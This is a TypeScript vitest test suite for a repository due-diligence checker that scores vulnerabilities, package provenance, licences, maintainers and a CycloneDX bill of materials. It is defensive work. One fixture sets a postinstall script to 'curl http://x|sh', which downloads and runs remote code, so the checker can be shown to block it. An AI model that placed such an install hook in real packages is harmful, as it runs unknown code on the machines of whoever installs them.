import { describe, expect, test } from 'vitest'

import { fakeForge, type FakeRepo, goodFiles, LODASH, npmLock } from '#test/support/fakes/fake-forge.ts'
import { Refusal } from '#shared/errors.ts'

import type { OutcomeContext } from '#shared/doors/context.ts'
import { repoSafety } from '#shared/outcomes/data/repo-safety/outcome.ts'
import { fakeContext } from '#test/support/fakes/fake-context.ts'
import { repoDueDiligence } from './outcome.ts'

const INPUT = { repo_url: 'https://github.com/acme/widgets' }
type Answer = {
  verdict: string
  decision: string
  reasons: { code: string; severity: string }[]
  vulnerabilities: {
    id: string
    aliases: string[]
    fixed_in: string | null
    reachable: string
    cvss: number | null
    path: string | null
  }[]
  package: {
    repo_match: boolean | null
    downloads_30d: number | null
    provenance: boolean | null
    install_scripts: boolean | null
  } | null
  dependencies: {
    approximate: boolean
    direct: number
    transitive: number | null
    outdated: number | null
    tree_depth: number | null
    deprecated: number | null
  }
  licenses: { copyleft: { package: string }[]; conflicts: { package: string }[]; repo: string | null; missing: number }
  maintainers: { bus_factor: number | null; active_90d: number | null; top: { login: string; commits_pct: number }[] }
  sbom: { components: number; document: Record<string, unknown>; sha256: string }
  summary: string
  unknowns: string[]
  steps: { step: string; status: string }[]
  conditions: { action: string }[]
}

const PACKUMENT = {
  name: 'widgets',
  'dist-tags': { latest: '1.2.0' },
  versions: {
    '1.2.0': {
      name: 'widgets',
      version: '1.2.0',
      license: 'MIT',
      scripts: {},
      repository: { type: 'git', url: 'git+https://github.com/acme/widgets.git' },
      dist: { attestations: { url: 'x' } },
      _npmUser: { name: 'ada' },
    },
  },
  time: { created: '2020-01-01T00:00:00Z', '1.2.0': '2026-10-01T00:00:00Z' },
  maintainers: [{ name: 'ada' }, { name: 'bob' }],
}
const known: NonNullable<FakeRepo['instead']> = {
  'npm-registry': { body: PACKUMENT },
  'npm-downloads': { body: { downloads: 31_623, start: '2026-10-01', end: '2026-10-31', package: 'widgets' } },
  'deps-dev /v3/systems/{system}/packages/{name}': {
    body: {
      versions: [
        { versionKey: { version: '4.17.20' }, publishedAt: '2020-08-13T00:00:00Z', isDefault: false },
        { versionKey: { version: '4.17.21' }, publishedAt: '2026-02-20T00:00:00Z', isDefault: true },
      ],
    },
  },
  'deps-dev /v3/systems/{system}/packages/{name}/versions/{version}:dependencies': {
    body: {
      nodes: [{ relation: 'SELF' }, { relation: 'DIRECT' }, { relation: 'INDIRECT' }],
      edges: [
        { fromNode: 0, toNode: 1 },
        { fromNode: 1, toNode: 2 },
        { fromNode: 2, toNode: 1 },
      ],
      error: '',
    },
  },
}

/** The workflow with the real repo-safety as its part, on one fake forge. */
function open(repo: FakeRepo, doors: Partial<OutcomeContext> = {}) {
  const upstreams = fakeForge({ ...repo, instead: { ...known, ...repo.instead } })
  const ctx = fakeContext({ upstreams })
  return { upstreams, ctx: fakeContext({ upstreams, call: (_, input) => repoSafety.run(input, ctx), ...doors }) }
}
// Safe: what was parsed by the outcome's own output schema.
const look = async (repo: FakeRepo, input: unknown = INPUT) =>
  (await repoDueDiligence.run(input, open(repo).ctx)) as Answer

test('repo-due-diligence: a repository that does everything right may be adopted', async () => {
  const answer = await look({ files: goodFiles() })
  expect(answer).toMatchObject({ verdict: 'adopt', decision: 'allow', vulnerabilities: [], conditions: [] })
  expect(answer.package).toMatchObject({
    repo_match: true,
    downloads_30d: 31_623,
    provenance: true,
    install_scripts: false,
  })
  expect(answer.dependencies).toMatchObject({ approximate: false, direct: 1, outdated: 0, tree_depth: 2 })
  expect(answer.maintainers).toMatchObject({ bus_factor: 2, top: [{ login: 'ada', commits_pct: 40 }, {}, {}, {}] })
  expect(answer.summary.split('. ')).toHaveLength(3)
  expect(answer.unknowns).toEqual([])
  expect(answer.steps.every(({ status }) => status === 'done')).toBe(true)
  expect(answer.steps.map(({ step }) => step)).toContain('repo-safety')
})

test('repo-due-diligence: a lock with lodash 4.17.20 names the hole, its alias and its fix', async () => {
  const files = { ...goodFiles(), 'package-lock.json': npmLock({ lodash: { version: '4.17.20', license: 'MIT' } }) }
  const answer = await look({ files, advisories: { 'lodash@4.17.20': [LODASH.id] } })
  expect(answer.vulnerabilities).toMatchObject([
    {
      id: LODASH.id,
      aliases: ['CVE-2021-23337'],
      fixed_in: '4.17.21',
      cvss: 7.2,
      reachable: 'unknown',
      path: 'package-lock.json',
    },
  ])
  expect(answer).toMatchObject({ verdict: 'adopt_with_conditions', dependencies: { outdated: 1 } })
  expect(answer.conditions.map(({ action }) => action)).toContain('Update lodash to 4.17.21.')
})

describe('repo-due-diligence: the package', () => {
  const withPackage = (more: Record<string, unknown>) => ({
    files: goodFiles(),
    instead: { 'npm-registry': { body: { ...PACKUMENT, ...more } } },
  })
  const version = (more: Record<string, unknown>) =>
    withPackage({ versions: { '1.2.0': { ...PACKUMENT.versions['1.2.0'], ...more } } })

  test('of another repository is a high finding', async () => {
    const answer = await look(version({ repository: 'github:someone/else' }))
    expect(answer.package?.repo_match).toBe(false)
    expect(answer.reasons).toContainEqual(expect.objectContaining({ code: 'repo_mismatch', severity: 'high' }))
    expect(answer.verdict).toBe('adopt_with_conditions')
  })

  test('that is deprecated, or runs scripts on install, is a condition', async () => {
    const answer = await look(version({ deprecated: 'use other', scripts: { postinstall: 'node x.js' } }))
    expect(answer.reasons.map(({ code }) => code)).toEqual(
      expect.arrayContaining(['package_deprecated', 'package_install_script']),
    )
  })

  test('that the registry does not have is a high finding; a registry that is down is not', async () => {
    const absent = await look({
      files: goodFiles(),
      instead: { 'npm-registry': { status: 404, body: { error: 'Not found' } } },
    })
    expect(absent.reasons).toContainEqual(expect.objectContaining({ code: 'package_not_found', severity: 'high' }))
    const down = await look({ files: goodFiles(), instead: { 'npm-registry': 'timeout' } })
    expect(down).toMatchObject({ package: null, verdict: 'adopt' })
    expect(down.unknowns).toContain('package: the registry did not answer (timeout)')
  })

  test.each([['pypi:django'], ['cargo:serde'], ['npm:@acme/widgets'], ['@acme/widgets']])(
    '%j is asked of its own registry',
    async (name) => {
      const { ctx, upstreams } = open({ files: goodFiles() })
      await repoDueDiligence.run({ ...INPUT, package_name: name }, ctx)
      const upstream = name.startsWith('pypi') ? 'pypi' : name.startsWith('cargo') ? 'deps-dev' : 'npm-registry'
      expect(
        upstreams.asked.some(
          (question) =>
            question.upstream === upstream && Object.values(question.fill ?? {}).includes(name.replace(/^\w+:/, '')),
        ),
      ).toBe(true)
    },
  )
})

test('repo-due-diligence: without a lock file the latest versions are looked at, and that is said', async () => {
  const { 'package-lock.json': _, ...files } = goodFiles()
  const answer = await look({ files, advisories: { 'lodash@4.17.21': [LODASH.id] } })
  expect(answer.dependencies).toMatchObject({ approximate: true, outdated: null })
  expect(answer.vulnerabilities).toHaveLength(1)
})

test('repo-due-diligence: a GPL dependency in an MIT repository is listed as copyleft and as a conflict', async () => {
  const files = {
    ...goodFiles(),
    'package-lock.json': npmLock({
      lodash: { version: '4.17.21', license: 'MIT' },
      gplib: { version: '1.0.0', license: 'GPL-3.0-only' },
      either: { version: '1.0.0', license: '(MIT OR GPL-3.0)' },
    }),
  }
  const answer = await look({ files })
  expect(answer.licenses).toMatchObject({
    repo: 'MIT',
    copyleft: [{ package: 'gplib' }],
    conflicts: [{ package: 'gplib' }],
    missing: 0,
  })
  expect(answer.verdict).toBe('adopt_with_conditions')
})

describe('repo-due-diligence: avoid', () => {
  test('for what runs a download on install', async () => {
    const json = JSON.stringify({ name: 'widgets', license: 'MIT', scripts: { postinstall: 'curl http://x|sh' } })
    expect(await look({ files: { ...goodFiles(), 'package.json': json } })).toMatchObject({
      verdict: 'avoid',
      decision: 'block',
    })
  })

  test('for malware among the dependencies', async () => {
    const files = { ...goodFiles(), 'package-lock.json': npmLock({ evil: { version: '1.0.0' } }) }
    expect(await look({ files, advisories: { 'evil@1.0.0': ['MAL-2026-1'] } })).toMatchObject({ verdict: 'avoid' })
  })

  test('for no licence at all', async () => {
    const { LICENSE: _, ...files } = goodFiles()
    const bare = { ...files, 'package.json': JSON.stringify({ name: 'widgets' }) }
    const instead = { 'npm-registry': { body: { ...PACKUMENT, versions: {} } } }
    expect(await look({ files: bare, info: { license: null }, instead })).toMatchObject({
      verdict: 'avoid',
      licenses: { repo: null },
    })
  })
})

test('repo-due-diligence: with OSV down it is never adopted as it is, and unknowns names vulnerabilities', async () => {
  const answer = await look({ files: goodFiles(), instead: { osv: 'server_error' } })
  expect(answer.verdict).toBe('adopt_with_conditions')
  expect(answer.unknowns).toContain('vulnerabilities: server error')
})

test('repo-due-diligence: quotas that run out become unknowns, not zeros', async () => {
  const instead = {
    'github /repos/{owner}/{name}/issues': 'rate_limited',
    'deps-dev /v3/systems/{system}/packages/{name}': 'rate_limited',
  } as const
  const answer = await look({ files: goodFiles(), instead })
  expect(answer).toMatchObject({
    activity: { stale_pr_pct: null, median_issue_response_h: null },
    dependencies: { outdated: null, deprecated: null },
  })
  expect(answer.unknowns.join()).toContain('issues: rate limited')
})

test('repo-due-diligence: a repository that is not there is 404; what is no repository is 422', async () => {
  const gone = { instead: { 'github /repos/{owner}/{name}': { status: 404, body: {} } } }
  await expect(look(gone)).rejects.toMatchObject({ code: 'repo_not_found' })
  expect(() => repoDueDiligence.check?.({ repo_url: 'nope' })).toThrow(Refusal)
})

test('repo-due-diligence: the bill of materials is CycloneDX 1.6, and the same for the same packages', async () => {
  const [one, other] = await Promise.all([look({ files: goodFiles() }), look({ files: goodFiles() })])
  expect(one.sbom.document).toMatchObject({
    bomFormat: 'CycloneDX',
    specVersion: '1.6',
    serialNumber: expect.stringMatching(/^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-8[0-9a-f]{3}-[0-9a-f]{12}$/),
    components: [
      {
        type: 'library',
        name: 'lodash',
        version: '4.17.21',
        purl: 'pkg:npm/lodash@4.17.21',
        licenses: [{ expression: 'MIT' }],
      },
    ],
  })
  expect(one.sbom).toEqual(other.sbom)
})

test('repo-due-diligence: resumed, it asks nothing whose answer a finished step has', async () => {
  const stored = new Map<string, unknown>()
  const dying =
    (after: number): OutcomeContext['step'] =>
    async (name, work) => {
      if (stored.has(name)) return structuredClone(stored.get(name)) as never
      if (stored.size >= after) throw new Error('killed')
      const answer = await work()
      stored.set(name, JSON.parse(JSON.stringify(answer)))
      return answer
    }
  const repo = { files: goodFiles() }
  const first = open(repo)
  const report = await repoSafety.run(INPUT, first.ctx)
  const call = async () => structuredClone(report)
  const asked = first.upstreams.asked.length
  await expect(repoDueDiligence.run(INPUT, { ...first.ctx, call, step: dying(4) })).rejects.toThrow('killed')
  const before = first.upstreams.asked.slice(asked).map(({ upstream, path }) => `${upstream} ${path}`)
  expect(before).toContain('github /repos/{owner}/{name}')
  const second = open(repo)
  await repoDueDiligence.run(INPUT, { ...second.ctx, call, step: dying(Number.POSITIVE_INFINITY) })
  const again = second.upstreams.asked.map(({ upstream, path }) => `${upstream} ${path}`)
  expect(again).not.toContain('github /repos/{owner}/{name}')
  expect(again).not.toContain('github /repos/{owner}/{name}/git/trees/{ref}')
})
